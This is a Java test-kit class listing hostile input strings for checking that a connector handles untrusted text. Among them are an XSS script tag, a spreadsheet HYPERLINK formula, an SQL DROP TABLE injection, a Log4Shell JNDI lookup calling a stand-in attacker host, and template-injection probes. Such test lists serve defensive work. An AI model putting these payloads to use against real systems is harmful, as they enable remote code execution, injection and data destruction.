package dev.throughline.connector.testkit;

import java.util.List;

/** Texts that people and attackers enter, and that break what is careless. */
final class HostileTexts {
    static final List<String> ALL = List.of(
            "<script>alert('x')</script>",
            "=HYPERLINK(\"http://evil.example\",\"click\")",
            "O'Neill said \"no\", 'never' -- ; DROP TABLE x",
            "line one\nline two\r\nline three\ttabbed",
            "日本語 ελληνικά עברית 😀👩‍👩‍👧 é",
            "100% & <b>; a+b %41 {braces} [x] \\ / ?q=1#f",
            "${jndi:ldap://evil.example/a} #{1+1} {{7*7}}");

    private HostileTexts() {}

    /** @param max the longest that the vendor's field takes */
    static List<String> upTo(int max) {
        String longest =
                "long ünd ".repeat(1_200).substring(0, Math.min(max, 10_000)).strip();
        return java.util.stream.Stream.concat(
                        ALL.stream().filter(t -> t.length() <= max), java.util.stream.Stream.of(longest))
                .toList();
    }
}
